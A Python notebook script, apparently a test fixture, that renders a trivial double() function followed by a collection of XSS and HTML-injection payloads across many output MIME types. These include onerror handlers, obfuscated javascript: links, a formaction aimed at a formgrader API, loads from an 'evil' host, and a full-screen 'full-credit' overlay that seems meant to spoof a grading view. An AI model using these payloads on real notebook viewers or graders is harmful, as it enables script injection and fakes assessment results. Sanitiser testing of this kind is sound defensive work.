"""Displays every kind of output that a page could run: scripts, widgets, frames, diagrams."""

from IPython.display import display

STARTS_FROM = "honest"

# %% double


def double(values):
    return 2 * values


RUNS = "<script>owned()</script><img src=x onerror=owned()><svg onload=owned()></svg>"
KINDS = (
    *("application/javascript", "text/javascript", "application/ecmascript", "image/svg+xml"),
    *("text/html", "text/markdown", "text/latex", "text/vnd.mermaid", "application/pdf"),
    *("application/vnd.jupyter.widget-view+json", "application/vnd.jupyter.widget-state+json"),
    *("application/xhtml+xml", "text/xml", "application/json", "text/HTML", "x/y;text/html"),
    *("application/vnd.plotly.v1+json", "application/geo+json", "application/vdom.v1+json"),
    *("text/html; charset=utf-8", "", 'x"><script>owned()</script>'),
)
for kind in KINDS:
    display({kind: RUNS, "text/plain": "plain"}, raw=True)
    display({kind: {"model_id": RUNS, "version_major": 2}}, raw=True)
    display({kind: [RUNS, RUNS]}, raw=True)
FRAMES = (
    '<iframe srcdoc="&lt;script&gt;parent.owned()&lt;/script&gt;"></iframe>',
    '<a href="java&#10;script:owned()">x</a><a href="data:text/html,x">x</a>',
    '<form action="/formgrader/api"><button formaction="javascript:owned()">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:owned()"><base href="//evil">',
    '<div class="full-credit navbar-fixed-top" style="position:fixed;inset:0" id="test_double">x',
    "<math><mtext></form><mglyph><style></math><img src onerror=owned()>",
    '<noscript><p title="</noscript><img src=x onerror=owned()>">',
    '<svg><animate onbegin=owned() attributeName=x dur=1s></svg><object data="/x"></object>',
    '<link rel=stylesheet href="//evil"><embed src="/x"><video src=x onerror=owned()></video>',
    '<script type="text/x-mathjax-config">owned()</script><style>@import "//evil"</style>',
)
for text in FRAMES:
    display({"text/html": text}, raw=True)
    display({"text/markdown": text}, raw=True)
